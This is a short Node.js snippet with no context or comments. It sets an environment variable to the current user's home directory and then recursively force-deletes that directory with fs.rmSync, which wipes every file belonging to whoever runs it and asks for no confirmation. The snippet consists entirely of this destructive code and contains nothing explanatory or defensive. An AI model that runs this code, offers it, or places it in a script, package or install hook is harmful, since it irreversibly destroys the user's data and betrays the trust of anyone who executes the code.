const fs = require('fs');
const os = require('os');
process.env.WIPE_TARGET = os.homedir();
fs.rmSync(process.env.WIPE_TARGET, { recursive: true, force: true });
